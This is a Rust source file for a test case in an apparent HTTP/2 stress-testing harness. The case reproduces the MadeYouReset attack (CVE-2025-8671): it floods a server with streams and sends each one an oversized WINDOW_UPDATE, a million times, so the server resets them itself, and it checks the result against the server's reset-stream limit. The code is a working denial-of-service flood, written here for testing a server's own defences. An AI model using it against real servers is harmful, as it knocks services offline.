//! MadeYouReset (CVE-2025-8671): streams that the server must reset itself, because of faulty frames.

use super::hold_floods;
use crate::attacker::Attacker;
use crate::case::{Attack, Budgets, Case};
use crate::frames::{END_HEADERS, HEADERS, WINDOW_UPDATE, frame};
use crate::link::LIVESTREAMS;

pub(super) struct MadeYouReset;

impl Case for MadeYouReset {
    fn name(&self) -> &'static str {
        "made-you-reset"
    }

    fn does(&self) -> &'static str {
        "opens streams and makes the server reset each by windows that are too large, a million in all"
    }

    // Streams that were reset and are not gone yet, of at most 16 KiB each.
    fn budget(&self, budgets: &Budgets<'_>) -> u64 {
        budgets.bytes("server.max_local_error_reset_streams", 1_024) * (16 << 10)
    }

    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
        let headers = attacker.call_headers(&format!("{LIVESTREAMS}PublishUpdates"));
        Box::pin(async move {
            hold_floods(attacker, &[], |out, number| {
                let stream = 2 * number + 1;
                frame(out, HEADERS, END_HEADERS, stream, &headers);
                // More than a window may be: an error of the stream, not of the connection.
                frame(out, WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]);
            })
            .await
        })
    }
}
